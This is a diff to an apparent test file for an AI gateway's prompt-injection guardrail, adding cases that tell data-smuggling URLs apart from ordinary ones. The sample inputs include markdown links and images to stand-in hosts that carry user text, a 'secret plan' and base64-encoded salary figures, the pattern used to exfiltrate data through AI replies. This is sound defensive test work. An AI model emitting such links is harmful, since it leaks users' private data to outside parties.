@@ -25,6 +25,7 @@ from penstock_gateway.domain.guardrails.injection.templates import neutralised, 
         "<div style='background:url(https://px.example/b?q=what%20the%20user%20said)'>",
         "[1]: https://x.example/?note=the%20secret%20plan%20is%20this ",
         "![x](https://px.example/i?session=1f)",
+        "[open](https://x.example/v?r=c2FsYXJ5IDg0MDAwLCBib251czogMTAwMDA)",  # salary 84000, bonus: 10000
     ],
 )
 def test_addresses_that_say_more_than_where_something_lies(text):
@@ -44,6 +45,7 @@ def test_addresses_that_say_more_than_where_something_lies(text):
         "[Guide](https://docs.example/guide?version=4#install-on-linux)",
         "![Sales](https://charts.example/v2?year=2031&region=north&format=svg)",
         "if a[i](x) < b: ...",
+        "[next](https://shop.example/list?cursor=b2Zmc2V0OjEwMCxsaW1pdDo1MCxieTo0NA)",  # offset:100,limit:50,by:44
     ],
 )
 def test_ordinary_addresses_stay(text):
